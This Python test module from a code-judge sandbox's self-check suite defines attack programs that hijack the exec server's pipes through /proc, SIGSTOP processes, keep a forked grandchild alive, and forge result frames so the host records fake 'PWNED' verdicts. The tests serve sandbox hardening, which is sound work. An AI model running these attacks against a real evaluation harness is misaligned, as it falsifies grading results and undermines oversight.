"""Attacks on the judge's channel: taking over the exec server's pipes through /proc, or
forging result frames, so that the host would record verdicts the program did not earn."""

from __future__ import annotations

from harness.sandbox.self_check.helpers import _PIDS, _program
from harness.sandbox.self_check.isolation import Attack, _if_ok, _output_is

TAKEOVER = _program("""
    import json, os, select, signal, struct, time
    """, _PIDS, """
    def _send(fd, kind, payload):
        data = struct.pack('>I', len(payload) + 1) + kind + payload
        try:
            os.write(fd, data)
        except OSError:
            pass

    def serve_forged(fins, fouts, seconds):
        sizes, buf = {}, b''
        end = time.time() + seconds
        while time.time() < end and fins:
            ready, _, _ = select.select(fins[:1], [], [], 0.1)
            if not ready:
                continue
            chunk = os.read(fins[0], 1 << 20)
            if not chunk:
                return
            buf += chunk
            while len(buf) >= 4:
                (size,) = struct.unpack('>I', buf[:4])
                if len(buf) < 4 + size:
                    break
                body, buf = buf[4:4 + size], buf[4 + size:]
                try:
                    req = json.loads(body)
                except ValueError:
                    continue
                for out in fouts:
                    op = req.get('op')
                    if op == 'put':
                        sizes[req.get('batch')] = len(req.get('inputs') or [])
                        _send(out, b'J', b'{"ok":true}')
                    elif op == 'hello':
                        _send(out, b'J', b'{"ok":true,"protocol":1,"pid":1,"python":"3"}')
                    elif op == 'run':
                        n = sizes.get(req.get('batch'), 48)
                        body = json.dumps({'v': ['PWNED'] * n, 'e': {}}).encode()
                        _send(out, b'C', struct.pack('>ii', 0, n) + body)
                        _send(out, b'D', json.dumps({'id': req.get('id')}).encode())

    def stop_everyone():
        for pid in _pids():
            try:
                os.kill(pid, signal.SIGSTOP)
            except OSError:
                pass

    def f(x):
        me, srv = os.getpid(), os.getppid()
        fins, fouts = [], []
        for pid in _pids():
            for fd, mode in (('0', os.O_RDONLY), ('1', os.O_WRONLY)):
                try:
                    (fins if fd == '0' else fouts).append(os.open(f'/proc/{pid}/fd/{fd}', mode))
                except OSError:
                    pass
            try:
                for fd in os.listdir(f'/proc/{pid}/fd'):
                    try:
                        fouts.append(os.open(f'/proc/{pid}/fd/{fd}', os.O_WRONLY))
                    except OSError:
                        pass
            except OSError:
                pass
        try:
            child = os.fork()
        except OSError:
            child = -1
        if child == 0:  # the classic route: a grandchild outlives the program
            try:
                os.setsid()
                if os.fork() > 0:
                    os._exit(0)
                end = time.time() + 5
                while time.time() < end:  # wait until the program's result has gone out
                    try:
                        state = open(f'/proc/{me}/stat').read().rsplit(')', 1)[1].split()[0]
                    except OSError:
                        break
                    if state in 'ZX':
                        break
                stop_everyone()
                serve_forged(fins, fouts, 25)
            finally:
                os._exit(0)
        if child > 0:
            os.waitpid(child, 0)
            return [len(fins), len(fouts), 'forked']
        # no fork: stop the server and every sibling from here and answer the host ourselves
        if fins and fouts:
            stop_everyone()
            serve_forged(fins, fouts, 25)
        return [len(fins), len(fouts), 'no fork']
""")

REACH_PROBE = _program("""
    import os
    """, _PIDS, """
    def f(x):
        found = []
        for pid in _pids():
            try:
                os.kill(pid, 0)
                found.append(f'signal {pid}')
            except OSError:
                pass
            for fd in ('0', '1'):
                try:
                    os.close(os.open(f'/proc/{pid}/fd/{fd}', os.O_WRONLY))
                    found.append(f'open /proc/{pid}/fd/{fd}')
                except OSError:
                    pass
        return found
""")

FORGE_FRAMES = _program("""
    import json, os, struct
    def frame(a, b, body, declared=None):
        body = body if isinstance(body, bytes) else json.dumps(body).encode()
        size = len(body) + 8 if declared is None else declared
        return struct.pack('>Iii', size, a, b) + body
    def f(x):
        frames = [
            frame(0, 1, {'v': [None], 'e': {'\\u00b2': ['exception', 'unicode digit key']}}),
            frame(0, 1, {'v': ['1'], 'e': {}}),
            frame(1, 3, {'v': ['1'], 'e': {}}),
            frame(0, 10**6, {'v': ['1'], 'e': {}}),
            frame(-1, -1, {'fatal': ['ok', 'forged fatal']}),
            frame(0, 1, {'v': ['1'], 'e': {}}, declared=7),
            frame(0, 1, {'v': ['1'], 'e': {}}, declared=400),
            frame(-2, -2, {'stdout': '', 'timing_ms': {'compile': 'x'}}),
        ]
        data = b''.join(frames)
        wrote = []
        for fd in range(256):
            try:
                os.write(fd, data)
                wrote.append(fd)
            except OSError:
                pass
        return '0'
""")

FORGE_HUGE_LENGTH = _program("""
    import os, struct
    def f(x):
        for fd in range(3, 256):
            try:
                os.write(fd, struct.pack('>Iii', 0xFFFFFFF0, 0, 1) + b'{"v":["1"]')
            except OSError:
                pass
        return '0'
""")

FORGE_HOST_CHANNEL = _program("""
    import json, os, struct
    """, _PIDS, """
    def f(x):
        bad = [b'D' + json.dumps({'id': i, 'cpu_s': 'x', 'wall_s': 'y'}).encode()
               for i in range(1, 3000)]
        bad.append(b'C' + struct.pack('>ii', 0, 1) + b'{"v":[null],"e":{"\\xc2\\xb2":["ok",1]}}')
        data = b''.join(struct.pack('>I', len(p)) + p for p in bad)
        data += struct.pack('>I', 0x7FFFFFFF) + b'J'
        opened = 0
        for pid in _pids():
            try:
                names = os.listdir(f'/proc/{pid}/fd')
            except OSError:
                names = [str(fd) for fd in range(64)]
            for fd in names:
                try:
                    out = os.open(f'/proc/{pid}/fd/{fd}', os.O_WRONLY | os.O_NONBLOCK)
                except OSError:
                    continue
                opened += 1
                try:
                    os.write(out, data)
                except OSError:
                    pass
        return opened
""")


def attacks() -> list[Attack]:
    return [
        Attack("takeover_via_proc1_fd", TAKEOVER, may_replace=False, batch_budget_s=1.0,
               doc="open /proc/<pid>/fd/0,1 of every process, SIGSTOP the server, answer the "
                   "host's later requests (grandchild, else from the program itself)"),
        Attack("reach_host_channel_or_server", REACH_PROBE, expect=_output_is([]),
               gvisor_allows="opening another uid's /proc/<pid>/fd (never signalling it)",
               doc="no process the program can signal or whose fd 0/1 it can open"),
        Attack("forge_frames_every_fd", FORGE_FRAMES, inputs=("a", "b", "c"),
               safe=("crash", "invalid_output", "ok", "exception"),
               doc="forged frames (unicode-digit error key, bad ranges, wrong lengths, forged "
                   "fatal and end) on fds 0..255, the result pipe included"),
        Attack("forge_frame_huge_length", FORGE_HUGE_LENGTH, inputs=("a", "b"),
               safe=("crash", "invalid_output", "ok"), expect=_if_ok("0"),
               doc="a frame declaring ~4 GB on the result pipe"),
        Attack("forge_end_frame_on_host_channel", FORGE_HOST_CHANNEL, may_replace=True,
               gvisor_allows="writing into the host channel through /proc/1/fd: the server "
                             "and the host notice and replace the worker",
               expect=_if_ok(0),
               doc="forged end frames ('cpu_s': 'x'), an error key '\u00b2' and a 2 GB length "
                   "written on every fd of every process reachable through /proc"),
        Attack("stdio_closed_and_duplicated", _program("""
            import os, stat, sys
            def f(x):
                pipes = [fd for fd in range(3, 64) if _fifo(fd)]
                for fd in (0, 1, 2):
                    os.close(fd)
                for fd in pipes[:1]:
                    for target in (0, 1, 2):
                        os.dup2(fd, target)
                print('garbage on stdout', flush=True)
                sys.stderr.write('garbage on stderr')
                return '0'
            def _fifo(fd):
                try:
                    return stat.S_ISFIFO(os.fstat(fd).st_mode)
                except OSError:
                    return False
        """), safe=("ok", "crash", "exception"), expect=_if_ok("0"),
            doc="close fds 0-2, dup the result pipe onto them, print"),
    ]
